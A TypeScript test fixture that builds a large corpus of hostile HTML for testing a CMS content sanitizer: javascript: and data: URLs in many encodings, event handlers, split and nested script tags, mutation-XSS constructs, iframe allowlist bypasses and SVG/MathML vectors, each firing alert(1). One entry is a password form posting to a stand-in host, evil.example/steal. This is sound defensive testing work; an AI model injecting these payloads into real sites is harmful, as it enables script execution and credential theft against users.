// Hostile HTML for the content pipeline: what a compromised CMS account, a pasted snippet
// or a crafted import could put in a page. If anything in a payload ran, it would call
// alert(1): the browser test (tests/e2e/hostile-html.spec.ts) turns that into a sentinel;
// the unit test (hostile-corpus.test.ts) checks the pipeline's output without a browser.
// Import-free on purpose: the browser tests load it as is.

export interface HostilePayload {
  /** Unique; the test titles use it. */
  readonly name: string;
  readonly html: string;
}

/** URLs that would run script if a browser followed, loaded or embedded them. */
const SCRIPT_URLS: readonly (readonly [label: string, url: string])[] = [
  ["javascript", "javascript:alert(1)"],
  ["upper-case javascript", "JAVASCRIPT:alert(1)"],
  ["mixed-case javascript", "JaVaScRiPt:alert(1)"],
  ["javascript after spaces", "   javascript:alert(1)"],
  ["javascript after a control character", "\u0001javascript:alert(1)"],
  ["javascript with a tab inside", "java\tscript:alert(1)"],
  ["javascript with a newline inside", "java\nscript:alert(1)"],
  ["javascript with an entity tab inside", "java&#x09;script:alert(1)"],
  ["javascript with a named-entity newline", "java&NewLine;script:alert(1)"],
  [
    "javascript in decimal entities",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  ],
  [
    "javascript in zero-padded entities",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
  ],
  [
    "javascript in hex entities",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
  ],
  ["javascript with an entity colon", "javascript&colon;alert(1)"],
  ["javascript percent-encoded", "%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)"],
  ["vbscript", "vbscript:msgbox(1)"],
  ["data text/html", "data:text/html,<script>alert(1)</script>"],
  ["data base64 html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
  ["data svg", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"],
];

/** Where a URL can sit in markup. */
const URL_CARRIERS: readonly (readonly [label: string, wrap: (url: string) => string])[] = [
  ["a href", (url) => `<a href="${url}">2024 Annual Report</a>`],
  ["unquoted a href", (url) => `<a href=${url.replaceAll(" ", "")}>Report</a>`],
  ["file-looking a href", (url) => `<a href="${url}//report.pdf">Report (PDF)</a>`],
  ["img src", (url) => `<img src="${url}" alt="chart">`],
  ["img srcset", (url) => `<img src="/a.png" srcset="${url} 2x" alt="chart">`],
  ["iframe src", (url) => `<iframe src="${url}"></iframe>`],
  ["blockquote cite", (url) => `<blockquote cite="${url}">Quoted</blockquote>`],
];

/** Carriers a site never needs; a smaller set of URLs is enough to show they go. */
const RARE_URL_CARRIERS: readonly (readonly [label: string, wrap: (url: string) => string])[] = [
  ["form action", (url) => `<form action="${url}"><button>Send</button></form>`],
  ["button formaction", (url) => `<button formaction="${url}">Send</button>`],
  ["input image formaction", (url) => `<input type="image" src="x" formaction="${url}">`],
  ["object data", (url) => `<object data="${url}"></object>`],
  ["embed src", (url) => `<embed src="${url}">`],
  ["svg a xlink:href", (url) => `<svg><a xlink:href="${url}"><text y="15">x</text></a></svg>`],
  ["svg a href", (url) => `<svg><a href="${url}"><circle r="40"></circle></a></svg>`],
  ["math href", (url) => `<math href="${url}"><mi>x</mi></math>`],
  ["area href", (url) => `<map name="m"><area href="${url}" shape="rect" coords="0,0,9,9"></map>`],
  ["base href", (url) => `<base href="${url}"><a href="/about-corus/">About</a>`],
  ["meta refresh", (url) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  ["link stylesheet", (url) => `<link rel="stylesheet" href="${url}">`],
  ["video poster", (url) => `<video poster="${url}"></video>`],
  ["source src", (url) => `<video><source src="${url}"></video>`],
  ["frame src", (url) => `<frameset><frame src="${url}"></frameset>`],
  ["table background", (url) => `<table background="${url}"><tr><td>x</td></tr></table>`],
  ["q cite", (url) => `<q cite="${url}">Quoted</q>`],
];

const RARE_CARRIER_URLS = new Set([
  "javascript",
  "javascript in decimal entities",
  "data text/html",
]);

function urlPayloads(): HostilePayload[] {
  const payloads: HostilePayload[] = [];
  for (const [carrier, wrap] of URL_CARRIERS) {
    for (const [label, url] of SCRIPT_URLS) {
      payloads.push({ name: `${carrier}: ${label}`, html: wrap(url) });
    }
  }
  for (const [carrier, wrap] of RARE_URL_CARRIERS) {
    for (const [label, url] of SCRIPT_URLS.filter(([label]) => RARE_CARRIER_URLS.has(label))) {
      payloads.push({ name: `${carrier}: ${label}`, html: wrap(url) });
    }
  }
  return payloads;
}

/** Event-handler attributes, each on an element that fires it without a click. */
const HANDLERS: readonly (readonly [label: string, html: string])[] = [
  ["img onerror", `<img src="x" onerror="alert(1)">`],
  ["img onerror unquoted", `<img src=x onerror=alert(1)>`],
  ["img onerror upper case", `<IMG SRC=x ONERROR=alert(1)>`],
  ["img onerror slash-separated", `<img/src="x"/onerror="alert(1)">`],
  ["img onerror newline before equals", `<img src=x onerror\n=alert(1)>`],
  ["img onerror tab-separated", `<img\tsrc=x\tonerror=alert(1)>`],
  ["img onerror with entity-encoded code", `<img src=x onerror="&#97;lert&#40;1&#41;">`],
  ["img onerror evaluating its own src", `<img src=x:alert(alt) onerror=eval(src) alt=0>`],
  ["img onerror after a backtick", "<img src=`x` onerror=alert(1)>"],
  ["img onerror duplicated attribute", `<img src=x onerror=alert(1) onerror=alert(1)>`],
  ["image alias onerror", `<image src=x onerror=alert(1)>`],
  ["svg onload", `<svg onload=alert(1)>`],
  ["svg animate onbegin", `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`],
  ["svg set onbegin", `<svg><set onbegin=alert(1) attributeName=x to=y>`],
  ["svg image onerror", `<svg><image href=x onerror=alert(1)></image></svg>`],
  ["body onload", `<body onload=alert(1)>`],
  ["body onpageshow", `<body onpageshow=alert(1)>`],
  ["frameset onload", `<frameset onload=alert(1)>`],
  ["details ontoggle", `<details open ontoggle=alert(1)><summary>x</summary></details>`],
  ["input autofocus onfocus", `<input autofocus onfocus=alert(1)>`],
  ["select autofocus onfocus", `<select autofocus onfocus=alert(1)></select>`],
  ["textarea autofocus onfocus", `<textarea autofocus onfocus=alert(1)></textarea>`],
  ["a tabindex autofocus onfocus", `<a href="/" autofocus tabindex=1 onfocus=alert(1)>x</a>`],
  [
    "div contenteditable autofocus onfocus",
    `<div contenteditable autofocus onfocus=alert(1)>x</div>`,
  ],
  ["video source onerror", `<video><source onerror=alert(1)></video>`],
  ["video onerror", `<video src=x onerror=alert(1)></video>`],
  ["audio onerror", `<audio src=x onerror=alert(1)></audio>`],
  ["marquee onstart", `<marquee onstart=alert(1)>x</marquee>`],
  ["object onerror", `<object data=x onerror=alert(1)></object>`],
  ["style onload", `<style onload=alert(1)></style>`],
  ["link onload", `<link rel=stylesheet href="data:text/css,a{}" onload=alert(1)>`],
  [
    "iframe onload on an allowed host",
    `<iframe src="https://www.youtube.com/embed/x" onload=alert(1)></iframe>`,
  ],
  ["table onclick", `<table onclick=alert(1)><tr><td>x</td></tr></table>`],
  ["heading onmouseover", `<h2 onmouseover=alert(1)>Results</h2>`],
  ["p onclick", `<p onclick="alert(1)">Click</p>`],
  ["a onclick", `<a href="/investor-relations/" onclick="alert(1)">IR</a>`],
  ["img handler with a NUL in its name", `<img src=x on\u0000error=alert(1)>`],
  ["img handler with mixed case", `<img src=x OnErRoR=alert(1)>`],
  [
    "span onanimationstart",
    `<style>@keyframes k{}</style><span style="animation-name:k" onanimationstart=alert(1)>x</span>`,
  ],
  ["div onpointerover", `<div onpointerover=alert(1)>x</div>`],
];

/** Script in its own tags, split, nested and unclosed. */
const SCRIPTS: readonly (readonly [label: string, html: string])[] = [
  ["script", `<script>alert(1)</script>`],
  ["script upper case", `<SCRIPT>alert(1)</SCRIPT>`],
  ["script with a src", `<script src="data:,alert(1)"></script>`],
  ["script unclosed", `<script>alert(1)`],
  ["script with a slash-separated attribute", `<script/x>alert(1)</script>`],
  ["script split by a script", `<scr<script>ipt>alert(1)</scr</script>ipt>`],
  ["script after a closing script", `</script><script>alert(1)</script>`],
  ["script in a comment trick", `<script>/*</script><script>*/alert(1)</script>`],
  ["script inside double angle brackets", `<<script>alert(1);//<</script>`],
  ["script in svg", `<svg><script>alert(1)</script></svg>`],
  ["script in svg with href", `<svg><script href="data:,alert(1)"/></svg>`],
  ["script in math", `<math><script>alert(1)</script></math>`],
  ["script with a type", `<script type="text/javascript">alert(1)</script>`],
  ["script module", `<script type="module">alert(1)</script>`],
  ["script in a table", `<table><script>alert(1)</script><tr><td>x</td></tr></table>`],
  ["script in a paragraph title", `<p title="<script>alert(1)</script>">x</p>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`],
  [
    "iframe srcdoc on an allowed host",
    `<iframe src="https://www.youtube.com/embed/x" srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>`,
  ],
  [
    "svg handler element",
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
  ],
  [
    "svg foreignObject iframe",
    `<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>`,
  ],
];

/** Mutation XSS: markup that means one thing to a sanitizer and another to a browser. */
const MUTATIONS: readonly (readonly [label: string, html: string])[] = [
  [
    "noscript title break-out",
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  ],
  ["svg style break-out", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ["svg paragraph style", `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`],
  ["math mglyph style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
  [
    "math nested headings and svg",
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
  ],
  [
    "form math namespace confusion",
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  ],
  [
    "svg foreignObject style",
    `<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>`,
  ],
  [
    "math annotation-xml html",
    `<math><annotation-xml encoding="text/html"><img src onerror=alert(1)></annotation-xml></math>`,
  ],
  ["math mtext img", `<math><mtext><img src onerror=alert(1)></mtext></math>`],
  ["svg desc cdata", `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>`],
  ["svg title cdata", `<svg><title><![CDATA[</title><img src onerror=alert(1)>]]></title></svg>`],
  ["template img", `<template><img src=x onerror=alert(1)></template>`],
  [
    "template in select",
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
  ],
  ["option style", `<option><style></option></select><img src=x onerror=alert(1)></style>`],
  ["textarea raw text", `<textarea><img src=x onerror=alert(1)></textarea>`],
  ["textarea closed early", `<textarea></textarea><img src=x onerror=alert(1)>`],
  ["title raw text", `<title><img src=x onerror=alert(1)></title>`],
  ["xmp raw text", `<xmp><img src=x onerror=alert(1)></xmp>`],
  ["iframe raw text", `<iframe><img src=x onerror=alert(1)></iframe>`],
  [
    "allowed iframe raw text",
    `<iframe src="https://www.youtube.com/embed/x"></iframe><img src=x onerror=alert(1)></iframe>`,
  ],
  ["noembed raw text", `<noembed><img src=x onerror=alert(1)></noembed>`],
  ["noframes raw text", `<noframes><img src=x onerror=alert(1)></noframes>`],
  ["plaintext", `<plaintext><img src=x onerror=alert(1)>`],
  ["style raw text", `<style><img src=x onerror=alert(1)></style>`],
  ["style in table", `<table><style><img src=x onerror=alert(1)></style></table>`],
  [
    "entity-encoded markup in a title",
    `<a href="/" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>`,
  ],
  ["hex-entity markup in a title", `<p title="&#x3C;img src=x onerror=alert(1)&#x3E;">x</p>`],
  ["backtick attribute break-out", '<a href="/" title="`"><img src=x onerror=alert(1)>`">x</a>'],
  ["quote break-out in an alt", `<img src="/a.png" alt='"><img src=x onerror=alert(1)>'>`],
  ["abrupt empty comment", `<!--><img src=x onerror=alert(1)>-->`],
  ["comment ended by --!>", `<!-- --!><img src=x onerror=alert(1)> -->`],
  ["comment inside an attribute", `<p title="<!--">--><img src=x onerror=alert(1)></p>`],
  ["cdata outside foreign content", `<![CDATA[><img src=x onerror=alert(1)>]]>`],
  ["processing instruction", `<?xml-stylesheet ?><img src=x onerror=alert(1)>`],
  ["bogus declaration", `<! foo="><img src=x onerror=alert(1)>">`],
  ["end tag with attributes", `</p foo="><img src=x onerror=alert(1)>">`],
  ["nested forms", `<form><form><img src=x onerror=alert(1)></form></form>`],
  ["table foster parenting", `<table><tr><td><a href=x><form><img src=x onerror=alert(1)>`],
  ["table svg style", `<table><td><svg><style></table><img src=x onerror=alert(1)>`],
  ["nested anchors", `<a href="/a.pdf"><a href="javascript:alert(1)">x</a></a>`],
  ["anchor wrapping a block", `<a href="/a.pdf"><div><img src=x onerror=alert(1)></div></a>`],
  ["self-closing script", `<script src="data:,alert(1)"/>x`],
  ["self-closing div swallowing", `<div/><img src=x onerror=alert(1)>`],
  ["svg closing into html", `<svg><p><img src=x onerror=alert(1)></svg>`],
  ["math style comment", `<math><style><!--</style><img src=x onerror=alert(1)>--></style></math>`],
];

/** Broken, unclosed and oddly nested markup. */
const BROKEN: readonly (readonly [label: string, html: string])[] = [
  ["double angle brackets", `<<img src=x onerror=alert(1)>>`],
  ["unclosed img", `<img src=x onerror=alert(1)`],
  ["unclosed img with a trailing comment", `<img src=x onerror=alert(1)//`],
  ["unclosed a", `<a href="javascript:alert(1)"`],
  ["tag inside a tag", `<p <img src=x onerror=alert(1)>>`],
  ["unclosed handler in a div", `<div><a href=x onclick=alert(1)//</div>`],
  ["unterminated attribute", `<p title="x><img src=x onerror=alert(1)>`],
  ["attribute without a name", `<img src=x ="" onerror=alert(1)>`],
  ["slash before the handler", `<img src=x /onerror=alert(1)>`],
  ["stray closing tags", `</div></p></a><img src=x onerror=alert(1)>`],
  ["deep nesting", `${"<div>".repeat(300)}<img src=x onerror=alert(1)>${"</div>".repeat(300)}`],
  ["deep inline nesting", `${"<b><i>".repeat(200)}<a href="javascript:alert(1)">x</a>`],
  ["unbalanced headings", `<h1><h2><h4>Title</h1></h2><img src=x onerror=alert(1)>`],
  ["null bytes around a tag", `\u0000<scr\u0000ipt>alert(1)</script>\u0000`],
  ["unclosed comment", `<!--<img src=x onerror=alert(1)>`],
  ["unclosed style", `<style><img src=x onerror=alert(1)>`],
  ["img in an attribute-less tag soup", `<p>one<p>two<li>three<td><img src=x onerror=alert(1)>`],
];

/** Markup written as text: must stay text. */
const ENCODED_TEXT: readonly (readonly [label: string, html: string])[] = [
  ["entity-encoded script", `&lt;script&gt;alert(1)&lt;/script&gt;`],
  ["double-encoded img", `&amp;lt;img src=x onerror=alert(1)&amp;gt;`],
  ["decimal-entity img", `&#60;img src=x onerror=alert(1)&#62;`],
  ["hex-entity img without semicolons", `&#x3c;img src=x onerror=alert(1)&#x3e`],
  ["percent-encoded script", `%3Cscript%3Ealert(1)%3C/script%3E`],
  ["javascript-escaped img", `\\u003Cimg src=x onerror=alert(1)\\u003E`],
  ["full-width angle brackets", `\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E`],
  ["long s in script", `<\u017Fcript>alert(1)</\u017Fcript>`],
  ["dotted capital I in script", `<scr\u0130pt>alert(1)</scr\u0130pt>`],
  ["right-to-left override in a link", `<a href="/x">\u202Efdp.exe</a>`],
  ["unicode line separator in a scheme", `<a href="javascript\u2028:alert(1)">x</a>`],
  ["zero-width joiner in a scheme", `<a href="java\u200Dscript:alert(1)">x</a>`],
  ["full-width colon in a scheme", `<a href="javascript\uFF1Aalert(1)">x</a>`],
  ["non-breaking spaces around a script", `&nbsp;<script>alert(1)</script>\u00A0`],
];

/** Styles that load, run or hide, and forms that post. */
const STYLES_AND_FORMS: readonly (readonly [label: string, html: string])[] = [
  ["style url javascript", `<div style="background:url('javascript:alert(1)')">x</div>`],
  ["style expression", `<div style="width: expression(alert(1))">x</div>`],
  ["style behavior", `<div style="behavior: url(x.htc)">x</div>`],
  ["style overlay", `<p style="position:fixed;inset:0;background:#fff;z-index:9999">x</p>`],
  ["style hides content", `<p style="display:none">Hidden terms</p>`],
  ["style element hides the page", `<style>body{display:none}</style>`],
  ["style import", `<style>@import 'javascript:alert(1)';</style>`],
  ["stylesheet link data", `<link rel="stylesheet" href="data:text/css,body{display:none}">`],
  [
    "form posting elsewhere",
    `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
  ],
  [
    "form with a formaction button",
    `<form><button formaction="javascript:alert(1)">Go</button></form>`,
  ],
  ["isindex", `<isindex action="javascript:alert(1)" type="image">`],
  ["keygen autofocus", `<keygen autofocus onfocus=alert(1)>`],
  [
    "dom clobbering next data",
    `<form id="__NEXT_DATA__"><input name="textContent" value="{}"></form>`,
  ],
  [
    "dom clobbering by name",
    `<img name="getElementById" src="/a.png"><a id="__next" href="/">x</a>`,
  ],
];

/** Iframes that are not on the video-host allowlist, or pretend to be. */
const IFRAMES: readonly (readonly [label: string, html: string])[] = [
  ["other host", `<iframe src="https://evil.example/embed/x"></iframe>`],
  [
    "allowed host as a subdomain",
    `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
  ],
  [
    "allowed host as user info",
    `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`,
  ],
  [
    "allowed host in the query",
    `<iframe src="https://evil.example/?u=https://www.youtube.com/"></iframe>`,
  ],
  ["allowed host in the fragment", `<iframe src="https://evil.example/#www.youtube.com"></iframe>`],
  ["allowed host over http", `<iframe src="http://www.youtube.com/embed/x"></iframe>`],
  ["protocol-relative other host", `<iframe src="//evil.example/embed/x"></iframe>`],
  ["backslashes", `<iframe src="https:\\\\evil.example\\embed"></iframe>`],
  ["relative", `<iframe src="/embed/x"></iframe>`],
  [
    "javascript with the host as a comment",
    `<iframe src="javascript://www.youtube.com/%0Aalert(1)"></iframe>`,
  ],
  ["data", `<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>`],
  [
    "allowed host asking for top navigation",
    `<iframe src="https://www.youtube.com/embed/x" sandbox="allow-top-navigation allow-scripts"></iframe>`,
  ],
  [
    "allowed host asking for the camera",
    `<iframe src="https://www.youtube.com/embed/x" allow="camera; microphone"></iframe>`,
  ],
  ["object embedding a page", `<object type="text/html" data="https://evil.example/"></object>`],
  ["embed of a flash movie", `<embed src="https://evil.example/x.swf" allowscriptaccess="always">`],
  ["frame", `<frame src="https://evil.example/">`],
];

/** SVG and MathML that carry script or links. */
const FOREIGN: readonly (readonly [label: string, html: string])[] = [
  [
    "svg animate href",
    `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">Click</text></a></svg>`,
  ],
  [
    "svg set href",
    `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>`,
  ],
  ["svg set handler", `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`],
  [
    "svg use data",
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  ],
  ["svg style import", `<svg><style>@import url(javascript:alert(1));</style></svg>`],
  ["svg discard onbegin", `<svg><discard onbegin=alert(1)></svg>`],
  ["svg feImage", `<svg><filter><feImage href="javascript:alert(1)"/></filter></svg>`],
  [
    "math maction statusline",
    `<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">Click</maction></math>`,
  ],
  ["math a xlink:href", `<math><a xlink:href="javascript:alert(1)">x</a></math>`],
  [
    "math mi xlink:href data",
    `<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
  ],
  ["math href on mtext", `<math><mtext href="javascript:alert(1)">x</mtext></math>`],
  [
    "xml namespace script",
    `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>`,
  ],
];

function fromTable(group: string, table: readonly (readonly [string, string])[]): HostilePayload[] {
  return table.map(([label, html]) => ({ name: `${group}: ${label}`, html }));
}

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...urlPayloads(),
  ...fromTable("handler", HANDLERS),
  ...fromTable("script", SCRIPTS),
  ...fromTable("mutation", MUTATIONS),
  ...fromTable("broken", BROKEN),
  ...fromTable("encoded text", ENCODED_TEXT),
  ...fromTable("style or form", STYLES_AND_FORMS),
  ...fromTable("iframe", IFRAMES),
  ...fromTable("svg or mathml", FOREIGN),
];
